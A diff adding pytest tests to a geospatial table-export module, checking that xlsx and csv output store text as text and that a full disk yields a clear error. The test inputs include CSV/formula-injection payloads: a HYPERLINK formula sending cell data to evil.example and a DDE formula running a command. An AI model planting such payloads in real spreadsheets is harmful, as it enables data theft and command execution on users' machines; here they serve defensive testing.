@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import geopandas as gpd
 import pandas as pd
+import pytest
 from shapely.geometry import Point
 
+from svcov.errors import OutputError
 from svcov.outputs.tables import label_columns, write_layers, write_table
 
 
@@ -49,3 +53,92 @@ def test_geopackage_layers_round_trip(tmp_path):
     assert [name for name, _ in pyogrio.list_layers(path)] == ["a"]
     back = gpd.read_file(path, layer="a")
     assert back["name"].tolist() == ["甲"] and back.crs.to_epsg() == 32651
+
+
+# --- text is text, never a formula (issue 10) ----------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def _hostile():
+    return pd.DataFrame({"name": FORMULAS + ["-20", "岳阳街道"], "pop_0_3": [1.5, -2.0, 3, 4, 5, 6, 7, 8, 9],
+                         "capacity_places": pd.array([1, 2, 3, 4, 5, 6, 7, 8, pd.NA], dtype="Int64")})
+
+
+def test_xlsx_stores_text_as_text_and_numbers_as_numbers(tmp_path):
+    from openpyxl import load_workbook
+
+    write_table(_hostile().rename(columns={"pop_0_3": "=1+2"}), tmp_path / "t", notes=["=HYPERLINK(\"x\")"],
+                formats=("xlsx",))
+    book = load_workbook(tmp_path / "t.xlsx")
+    sheet = book.worksheets[0]
+    header = [(c.value, c.data_type) for c in sheet[1]]
+    assert header == [("名称", "s"), ("=1+2", "s"), ("托位数", "s")]
+    names = [(c.value, c.data_type) for c in sheet["A"][1:]]
+    assert names == [(text, "s") for text in FORMULAS + ["-20", "岳阳街道"]]       # exactly as written, as text
+    assert [c.data_type for c in sheet["B"][1:]] == ["n"] * 9                      # numbers stay numbers
+    assert [c.value for c in sheet["C"][1:]] == [1, 2, 3, 4, 5, 6, 7, 8, None]
+    assert (book["说明"]["A1"].value, book["说明"]["A1"].data_type) == ("=HYPERLINK(\"x\")", "s")
+    formulas = [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
+
+def test_csv_neutralises_a_leading_formula_character(tmp_path):
+    import csv
+
+    write_table(_hostile(), tmp_path / "t", formats=("csv",))
+    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == ["名称", "0-3岁人口", "托位数"]
+    assert [r[0] for r in rows[1:]] == ["'" + text for text in FORMULAS] + ["-20", "岳阳街道"]
+    assert [r[1] for r in rows[1:]] == ["1.5", "-2.0", "3.0", "4.0", "5.0", "6.0", "7.0", "8.0", "9.0"]
+
+
+def test_characters_an_xlsx_cannot_hold_are_replaced_not_fatal(tmp_path):
+    from openpyxl import load_workbook
+
+    write_table(pd.DataFrame({"name": ["托育\x0b点\x01"]}), tmp_path / "t")
+    assert load_workbook(tmp_path / "t.xlsx").worksheets[0]["A2"].value == "托育\ufffd点\ufffd"
+    assert "托育\x0b点\x01" in (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
+
+
+# --- a full disk is a message (issue 10) ----------------------------------------------------------------------
+
+
+def _layer():
+    return gpd.GeoDataFrame({"name": ["甲"]}, geometry=[Point(0, 0)], crs="EPSG:32651")
+
+
+def test_a_geopackage_gdal_cannot_commit_on_a_full_disk_is_an_output_error(tmp_path, monkeypatch):
+    import shutil
+    from collections import namedtuple
+
+    import pyogrio.errors
+
+    def fail(self, path, **kwargs):
+        Path(path).write_bytes(b"half")
+        Path(str(path) + "-journal").write_bytes(b"journal")
+        raise pyogrio.errors.DataSourceError("Failed to commit transaction")
+
+    monkeypatch.setattr(gpd.GeoDataFrame, "to_file", fail)
+    usage = namedtuple("usage", "total used free")
+    monkeypatch.setattr(shutil, "disk_usage", lambda path: usage(10e9, 10e9 - 2e6, 2e6))
+    with pytest.raises(OutputError, match=r"磁盘空间不足 \(只剩 2.0 MB\)"):
+        write_layers(tmp_path / "layers.gpkg", {"a": _layer()})
+    assert list(tmp_path.iterdir()) == []                      # no half file, no journal left
+    monkeypatch.setattr(shutil, "disk_usage", lambda path: usage(10e9, 1e9, 9e9))
+    with pytest.raises(OutputError, match="无法写入 GeoPackage .*Failed to commit transaction"):
+        write_layers(tmp_path / "layers.gpkg", {"a": _layer()})
+
+
+def test_a_table_on_a_full_disk_is_an_output_error(tmp_path, monkeypatch):
+    import errno
+
+    def full(self, data):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(Path, "write_bytes", full)
+    with pytest.raises(OutputError, match="t.xlsx: 磁盘空间不足"):
+        write_table(_frame(), tmp_path / "t", formats=("xlsx",))
+    assert list(tmp_path.iterdir()) == []
